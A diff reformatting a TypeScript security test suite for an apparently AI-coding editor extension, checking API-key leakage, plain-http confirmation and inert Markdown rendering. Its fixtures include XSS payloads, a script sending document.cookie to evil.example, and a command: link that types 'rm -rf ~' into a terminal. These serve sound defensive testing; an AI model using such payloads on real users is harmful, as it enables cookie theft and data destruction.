@@ -19,8 +19,11 @@ import { installVscodeStub, resetStub, state } from '../fixtures/crash/vscodeStu
 
 const KEY = 'sk-frugal-canary-0123456789abcdef';
 const EXPLAIN: EditorRequest = {
-  task: 'explain', instruction: '', languageId: 'typescript',
-  selection: 'export function byName(users: User[]): User[] {\n  return [...users].sort((a, b) => a.name.localeCompare(b.name));\n}',
+  task: 'explain',
+  instruction: '',
+  languageId: 'typescript',
+  selection:
+    'export function byName(users: User[]): User[] {\n  return [...users].sort((a, b) => a.name.localeCompare(b.name));\n}',
 };
 
 function filesUnder(dir: string): string[] {
@@ -51,19 +54,49 @@ describe('security: the API key never leaves SecretStorage', function () {
     logger = new MemoryLogger();
     ledger = new Ledger({ dir: path.join(dir, 'global'), logger });
     await ledger.load();
-    cache = new ResponseCache({ dir: path.join(dir, 'workspace', 'cache'), logger, ttlMs: 86_400_000, maxEntries: 100, maxBytes: 1 << 20, flushDelayMs: 1 });
+    cache = new ResponseCache({
+      dir: path.join(dir, 'workspace', 'cache'),
+      logger,
+      ttlMs: 86_400_000,
+      maxEntries: 100,
+      maxBytes: 1 << 20,
+      flushDelayMs: 1,
+    });
     await cache.load();
   });
-  after(async () => { await sim.close(); });
+  after(async () => {
+    await sim.close();
+  });
 
   function pipelineWith(raw: RawSettings = {}): Pipeline {
-    const { config } = parseConfig({ baseUrl: sim.baseUrl, 'request.timeoutSeconds': 1, 'request.maxRetries': 1, ...raw });
+    const { config } = parseConfig({
+      baseUrl: sim.baseUrl,
+      'request.timeoutSeconds': 1,
+      'request.maxRetries': 1,
+      ...raw,
+    });
     const client = new ProviderClient({ logger, sleep: async () => {} });
     const spy = {
-      chat: (c: Parameters<ProviderClient['chat']>[0]) => client.chat(c).catch((e: unknown) => { if (e instanceof ProviderError) providerMessages.push(e.providerMessage ?? ''); throw e; }),
-      complete: (c: Parameters<ProviderClient['complete']>[0]) => client.complete(c).catch((e: unknown) => { if (e instanceof ProviderError) providerMessages.push(e.providerMessage ?? ''); throw e; }),
+      chat: (c: Parameters<ProviderClient['chat']>[0]) =>
+        client.chat(c).catch((e: unknown) => {
+          if (e instanceof ProviderError) providerMessages.push(e.providerMessage ?? '');
+          throw e;
+        }),
+      complete: (c: Parameters<ProviderClient['complete']>[0]) =>
+        client.complete(c).catch((e: unknown) => {
+          if (e instanceof ProviderError) providerMessages.push(e.providerMessage ?? '');
+          throw e;
+        }),
     };
-    return new Pipeline({ getConfig: () => config, provider: spy, secrets: { getApiKey: async () => KEY }, ledger, cache, logger, workspace: 'ws' });
+    return new Pipeline({
+      getConfig: () => config,
+      provider: spy,
+      secrets: { getApiKey: async () => KEY },
+      ledger,
+      cache,
+      logger,
+      workspace: 'ws',
+    });
   }
 
   async function runAndCollect(p: Pipeline, req: EditorRequest): Promise<void> {
@@ -78,12 +111,31 @@ describe('security: the API key never leaves SecretStorage', function () {
 
   const scenarios: { name: string; faults: Fault[]; raw?: RawSettings }[] = [
     { name: 'a normal answer', faults: [] },
-    { name: 'a 401 whose body echoes the key (cascade off)', faults: [{ type: 'status', status: 401 }], raw: { 'cascade.enabled': false } },
+    {
+      name: 'a 401 whose body echoes the key (cascade off)',
+      faults: [{ type: 'status', status: 401 }],
+      raw: { 'cascade.enabled': false },
+    },
     { name: 'a 401 whose body echoes the key (cascade on)', faults: [{ type: 'status', status: 401 }] },
-    { name: 'a 429 echoing the key, retried until given up', faults: [{ type: 'status', status: 429, times: -1 }], raw: { 'cascade.enabled': false } },
-    { name: 'a 500 echoing the key, then a fallback', faults: [{ type: 'status', status: 500, times: 2, model: 'Qwen/Qwen3-8B' }] },
-    { name: 'a 404 (unknown model) echoing the key', faults: [{ type: 'status', status: 404 }], raw: { 'cascade.enabled': false } },
-    { name: 'a stream cut mid-answer', faults: [{ type: 'disconnect', afterChars: 30 }], raw: { 'cascade.enabled': false } },
+    {
+      name: 'a 429 echoing the key, retried until given up',
+      faults: [{ type: 'status', status: 429, times: -1 }],
+      raw: { 'cascade.enabled': false },
+    },
+    {
+      name: 'a 500 echoing the key, then a fallback',
+      faults: [{ type: 'status', status: 500, times: 2, model: 'Qwen/Qwen3-8B' }],
+    },
+    {
+      name: 'a 404 (unknown model) echoing the key',
+      faults: [{ type: 'status', status: 404 }],
+      raw: { 'cascade.enabled': false },
+    },
+    {
+      name: 'a stream cut mid-answer',
+      faults: [{ type: 'disconnect', afterChars: 30 }],
+      raw: { 'cascade.enabled': false },
+    },
   ];
   scenarios.forEach((s, i) => {
     it(`${s.name}: the key is not in any message or log line`, async () => {
@@ -99,10 +151,16 @@ describe('security: the API key never leaves SecretStorage', function () {
   it('an inline completion refused with a key-echoing 401: the thrown error and the log do not carry the key', async () => {
     sim.setFaults([{ type: 'status', status: 401, endpoint: 'fim' }]);
     const before = logger.lines.length;
-    await assert.rejects(pipelineWith().complete({ prefix: 'const x = ', suffix: ';', languageId: 'typescript', maxTokens: 16, stop: [] }, new AbortController().signal), (e: any) => {
-      assert.ok(!String(e.userMessage).includes(KEY) && !String(e.message).includes(KEY), e.message);
-      return true;
-    });
+    await assert.rejects(
+      pipelineWith().complete(
+        { prefix: 'const x = ', suffix: ';', languageId: 'typescript', maxTokens: 16, stop: [] },
+        new AbortController().signal,
+      ),
+      (e: any) => {
+        assert.ok(!String(e.userMessage).includes(KEY) && !String(e.message).includes(KEY), e.message);
+        return true;
+      },
+    );
     for (const l of logger.lines.slice(before)) assert.ok(!l.includes(KEY), l);
   });
 
@@ -118,9 +176,15 @@ describe('security: the API key never leaves SecretStorage', function () {
     await ledger.flush();
     await cache.flush();
     const files = filesUnder(dir);
-    assert.ok(files.some((f) => /ledger\/\d{4}-\d{2}\.jsonl$/.test(f)) && files.some((f) => f.endsWith('response-cache.jsonl')), files.join(', '));
+    assert.ok(
+      files.some((f) => /ledger\/\d{4}-\d{2}\.jsonl$/.test(f)) && files.some((f) => f.endsWith('response-cache.jsonl')),
+      files.join(', '),
+    );
     assert.ok(ledger.recent().length >= scenarios.length);
-    assert.ok(ledger.recent().some((r) => r.outcome === 'error'), 'error records (whose error text came from the host) were written');
+    assert.ok(
+      ledger.recent().some((r) => r.outcome === 'error'),
+      'error records (whose error text came from the host) were written',
+    );
     for (const f of files) {
       const bytes = readFileSync(f);
       assert.ok(statSync(f).size > 0 || f.endsWith('.lock'));
@@ -139,10 +203,23 @@ describe('security: plain http to another host needs confirmation', () => {
   });
   beforeEach(() => resetStub());
 
-  const loopback = ['http://127.0.0.1:11434/v1', 'http://localhost:8080/v1', 'http://[::1]:11434/v1', 'http://127.1.2.3/v1', 'http://LOCALHOST/v1', 'http://0.0.0.0:11434/v1'];
+  const loopback = [
+    'http://127.0.0.1:11434/v1',
+    'http://localhost:8080/v1',
+    'http://[::1]:11434/v1',
+    'http://127.1.2.3/v1',
+    'http://LOCALHOST/v1',
+    'http://0.0.0.0:11434/v1',
+  ];
   const remote = [
-    'http://example.com/v1', 'http://10.0.0.5:8000/v1', 'http://192.168.1.2/v1', 'http://localhost.evil.example/v1',
-    'http://127.0.0.1.nip.io/v1', 'http://evil.example/127.0.0.1', 'http://user:pw@evil.example/v1', 'not a url',
+    'http://example.com/v1',
+    'http://10.0.0.5:8000/v1',
+    'http://192.168.1.2/v1',
+    'http://localhost.evil.example/v1',
+    'http://127.0.0.1.nip.io/v1',
+    'http://evil.example/127.0.0.1',
+    'http://user:pw@evil.example/v1',
+    'not a url',
   ];
   it('isLoopback: loopback names and addresses only (guard and provider client agree)', () => {
     for (const u of loopback) {
@@ -191,7 +268,9 @@ describe('security: plain http to another host needs confirmation', () => {
     assert.equal(guard.allowsSilently(parseConfig({ baseUrl: 'http://127.0.0.1:11434/v1' }).config), true);
     const remote = parseConfig({ baseUrl: 'http://gpu-box.lan:8000/v1' }).config;
     assert.equal(guard.allowsSilently(remote), false, 'unconfirmed plain http to another host');
-    const fim = parseConfig({ providers: { f: { baseUrl: 'https://a.example/v1', fimBaseUrl: 'HTTP://fim.example/beta' } } }).config;
+    const fim = parseConfig({
+      providers: { f: { baseUrl: 'https://a.example/v1', fimBaseUrl: 'HTTP://fim.example/beta' } },
+    }).config;
     assert.equal(guard.allowsSilently(fim), false, 'a plain-http FIM URL, in capitals');
     state.answers.push({ match: /plain http/, pick: 'Send Anyway' });
     assert.equal(await guard.allow(remote), true);
@@ -199,7 +278,11 @@ describe('security: plain http to another host needs confirmation', () => {
     assert.equal(state.shown.length, 1, 'allowsSilently itself never shows anything');
     state.isTrusted = false;
     const untrusted = new guardModule.SendGuard();
-    assert.equal(untrusted.allowsSilently(parseConfig({ baseUrl: 'https://api.deepseek.com' }).config), false, 'untrusted workspace');
+    assert.equal(
+      untrusted.allowsSilently(parseConfig({ baseUrl: 'https://api.deepseek.com' }).config),
+      false,
+      'untrusted workspace',
+    );
     assert.equal(state.shown.length, 1);
   });
 
@@ -216,10 +299,12 @@ describe('security: answers render model text as text', () => {
 
   /** Every tag in the output is one the renderer writes itself; no attribute but class / data-lang. */
   function assertInert(html: string): void {
-    for (const tag of html.match(/<[^>]*>/g) ?? []) assert.match(tag, ALLOWED_TAG, `live tag in output: ${tag}\n${html}`);
+    for (const tag of html.match(/<[^>]*>/g) ?? [])
+      assert.match(tag, ALLOWED_TAG, `live tag in output: ${tag}\n${html}`);
     assert.doesNotMatch(html, /<(img|script|a|iframe|svg|style|link|object|embed|form|input|meta|base)\b/i, html);
     // an attribute can only live inside a tag; the text " onerror=" between escaped brackets is inert
-    for (const tag of html.match(/<[^>]*>/g) ?? []) assert.doesNotMatch(tag, /\s(on\w+|href|src|srcset|style|action|formaction)\s*=/i, tag);
+    for (const tag of html.match(/<[^>]*>/g) ?? [])
+      assert.doesNotMatch(tag, /\s(on\w+|href|src|srcset|style|action|formaction)\s*=/i, tag);
     // no raw angle bracket, quote-breakout or entity from the payload survives unescaped
     assert.doesNotMatch(html.replace(/<[^>]*>/g, ''), /[<>]/, html);
   }
@@ -228,18 +313,37 @@ describe('security: answers render model text as text', () => {
     { name: 'an <img onerror>', md: 'Look: <img src=x onerror=alert(1)> done' },
     { name: 'a <script> block', md: '<script>fetch("https://evil.example/?k="+document.cookie)</script>' },
     { name: 'a script tag split over lines', md: '<scr\nipt>alert(1)</script>' },
-    { name: 'a command: link', md: 'Click [here](command:workbench.action.terminal.new) to continue', extra: (h) => assert.doesNotMatch(h, /<a\b|href/i) },
-    { name: 'a command: link with arguments', md: '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)' },
+    {
+      name: 'a command: link',
+      md: 'Click [here](command:workbench.action.terminal.new) to continue',
+      extra: (h) => assert.doesNotMatch(h, /<a\b|href/i),
+    },
+    {
+      name: 'a command: link with arguments',
+      md: '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)',
+    },
     { name: 'a remote image', md: '![](https://evil.example/x.png)', extra: (h) => assert.match(h, /not loaded/) },
     { name: 'a remote image with alt text and a title', md: '![logo](https://evil.example/track.gif "t")' },
     { name: 'a javascript: link', md: '[x](javascript:alert(1))' },
     { name: 'an autolink and raw URL', md: '<https://evil.example> and https://evil.example/x' },
     { name: 'HTML inside inline code', md: 'use `<img src=x onerror=alert(1)>` here' },
-    { name: 'HTML inside a fence with a hostile info string', md: '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```' },
+    {
+      name: 'HTML inside a fence with a hostile info string',
+      md: '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
+    },
     { name: 'HTML inside a fence', md: '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```' },
-    { name: 'attribute breakout in emphasis and headings', md: '# <b onmouseover=alert(1)>title</b>\n**<i style="x">bold</i>** *"quoted"* _<u>u</u>_' },
-    { name: 'a list of payloads', md: '- <iframe src="https://evil.example"></iframe>\n1. <svg onload=alert(1)>\n- <a href="command:x">a</a>' },
-    { name: 'entities that decode to tags', md: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;' },
+    {
+      name: 'attribute breakout in emphasis and headings',
+      md: '# <b onmouseover=alert(1)>title</b>\n**<i style="x">bold</i>** *"quoted"* _<u>u</u>_',
+    },
+    {
+      name: 'a list of payloads',
+      md: '- <iframe src="https://evil.example"></iframe>\n1. <svg onload=alert(1)>\n- <a href="command:x">a</a>',
+    },
+    {
+      name: 'entities that decode to tags',
+      md: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
+    },
     { name: 'a data: URL image', md: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
     { name: 'a reference-style link to command:', md: '[go][1]\n\n[1]: command:workbench.action.terminal.new' },
   ];
@@ -259,7 +363,9 @@ describe('security: answers render model text as text', () => {
   });
 
   it('ordinary Markdown still renders', () => {
-    const html = renderMarkdown('# Title\n\nSome **bold** and *em* and `code`.\n\n- one\n- two\n\n```ts\nconst a = 1 < 2;\n```');
+    const html = renderMarkdown(
+      '# Title\n\nSome **bold** and *em* and `code`.\n\n- one\n- two\n\n```ts\nconst a = 1 < 2;\n```',
+    );
     assert.match(html, /<h2>Title<\/h2>/);
     assert.match(html, /<strong>bold<\/strong>/);
     assert.match(html, /<em>em<\/em>/);
